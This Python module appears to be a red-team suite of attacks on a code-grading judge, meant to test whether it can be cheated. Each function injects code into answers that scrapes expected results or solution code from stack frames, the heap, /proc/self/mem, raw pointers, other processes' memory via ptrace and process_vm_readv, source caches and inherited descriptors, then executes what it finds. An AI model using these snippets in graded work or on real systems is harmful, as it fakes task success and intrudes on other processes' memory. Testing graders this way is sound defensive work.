"""Attacks that look for expected results in memory: frames, the heap, other processes."""

from __future__ import annotations

from attackers.attack import attack, code, in_every_answer


@attack()
def frames_walked():
    """Walk the callers' frames and return whatever is called expected, reference or solution there:
    5 of 5 in nbgrader (grading.md §3, a03)."""
    return in_every_answer("""
        import sys
        frame = sys._getframe()
        while frame:
            for space in (frame.f_locals, frame.f_globals):
                for name, value in list(space.items()):
                    if any(w in name.lower() for w in ("expect", "referenc", "solution", "right")):
                        loot = value
                        if hasattr(value, "expected"):
                            case = frame.f_locals.get("case")
                            loot = value.expected(case.answers[0], case.inputs).value
            frame = frame.f_back
    """)


@attack()
def heap_searched():
    """Every object is known to the garbage collector: look for cases with their expected results,
    for exercises with their folders, for code of solutions."""
    return in_every_answer("""
        import gc
        inputs = [value for value in list(locals().values()) if value != "nothing"]
        for thing in gc.get_objects():
            expected = getattr(thing, "expected", None) if hasattr(thing, "inputs") else None
            if isinstance(expected, dict) and list(thing.inputs.values())[:len(inputs)] == inputs:
                loot = next(iter(expected.values()), loot)
            if isinstance(thing, dict) and "expected" in thing:
                loot = thing["expected"]
            if type(thing).__name__ == "CodeFile" and "def tokenize" in thing.text:
                exec(thing.text, globals())
                loot = tokenize(inputs[0])
    """)


def _run_what_is_found(reading: str) -> str:
    """Search memory for the worked solution; the pattern does not match itself. Run what is found."""
    return (
        code("""
        import re

        PATTERN = re.compile(
            rb"import unicodedata\\s{2,4}def tokenize.{50,1500}?split\\(\\)|"
            rb"import heapq\\s{2,4}class Candidate.{50,2000}?reverse=True\\)\\]", re.S
        )

        def solved(memory):
            found = {}
            for match in PATTERN.finditer(memory):
                try:
                    exec(match.group().decode(), found)
                except Exception:
                    pass
            return found
    """)
        + "\n\n"
        + in_every_answer(reading)
    )


@attack()
def own_memory_searched():
    """The worker may have had solutions in memory before it forked, and freed memory is not wiped:
    read all of /proc/self/mem and run any worked solution that is found."""
    return _run_what_is_found("""
        found = {}
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
            for line in maps:
                places, rights = line.split()[:2]
                start, end = (int(place, 16) for place in places.split("-"))
                if "r" in rights and end - start < 2**28 and start < 2**63:
                    try:
                        memory.seek(start)
                        found.update(solved(memory.read(end - start)))
                    except (OSError, ValueError, OverflowError):
                        continue
        if "tokenize" in found and "review" in locals():
            loot = found["tokenize"](review)
        if "merge_top_k" in found and "shards" in locals():
            loot = found["merge_top_k"](shards, k)
    """)


@attack()
def own_memory_read_through_ctypes():
    """Without /proc, memory can be read through a pointer. Walk upwards from an object of one's own
    until the process dies; it must die alone."""
    return _run_what_is_found("""
        import ctypes
        found = {}
        start = id(found) & ~0xFFFFF
        for page in range(start, start + 2**26, 2**20):
            found.update(solved(ctypes.string_at(page, 2**20)))
        if "tokenize" in found and "review" in locals():
            loot = found["tokenize"](review)
    """)


@attack(leaks="read the memory of process other")
def other_processes_memory_read():
    """Read the memory of the parent and of every other process, by /proc/PID/mem and by
    process_vm_readv, and attach to them with ptrace: the judge's memory holds all solutions."""
    return _run_what_is_found("""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        found = {}
        pids = {os.getppid(), 1, 2, 3}
        try:
            pids |= {int(name) for name in os.listdir("/proc") if name.isdigit()}
        except OSError:
            pids |= set(range(1, 400))
        for pid in sorted(pids - {os.getpid()})[:500]:
            attached = libc.ptrace(16, pid, 0, 0)
            buffer = ctypes.create_string_buffer(4096)
            vector = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 4096)
            remote = (ctypes.c_void_p * 2)(0x400000, 4096)
            read = libc.process_vm_readv(pid, vector, 1, remote, 1, 0)
            if attached == 0 or read > 0:
                loot = ["owned", pid]
                raise RuntimeError("read the memory of process " + "another"[2:])
            try:
                with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
                    for line in maps:
                        places, rights = line.split()[:2]
                        start, end = (int(place, 16) for place in places.split("-"))
                        if "rw" in rights and end - start < 2**28:
                            memory.seek(start)
                            found.update(solved(memory.read(end - start)))
            except (OSError, ValueError, OverflowError):
                continue
        if "tokenize" in found and "review" in locals():
            loot = found["tokenize"](review)
    """)


@attack()
def sources_inspected():
    """Everything that keeps source text: inspect, linecache, the traceback of an exception raised
    on purpose, the code objects of callers and their constants."""
    return in_every_answer("""
        import inspect, linecache, sys
        texts = ["".join(entry[2]) for entry in linecache.cache.values() if len(entry) > 2]
        for record in inspect.stack():
            try:
                texts.append(inspect.getsource(record.frame))
            except (OSError, TypeError):
                pass
        for module in list(sys.modules.values()):
            name = getattr(module, "__name__", "")
            if name.startswith(("cases_of", "solution", "grader.bank", "grader.judge")):
                try:
                    texts.append(inspect.getsource(module))
                except (OSError, TypeError):
                    pass
        for text in texts:
            if "inside_a_" + "word" in text:
                exec(text, globals())
                loot = tokenize(review)
    """)


@attack()
def next_requests_read():
    """Read ahead on every inherited descriptor: whoever sees the next requests knows which cases
    come, and the reply to each could be prepared, or the worker left waiting for ever."""
    return in_every_answer("""
        import os, select
        for fd in range(256):
            try:
                ready, _, _ = select.select([fd], [], [], 0)
                if ready:
                    loot = os.read(fd, 1 << 20)[:40]
            except (OSError, ValueError):
                continue
    """)
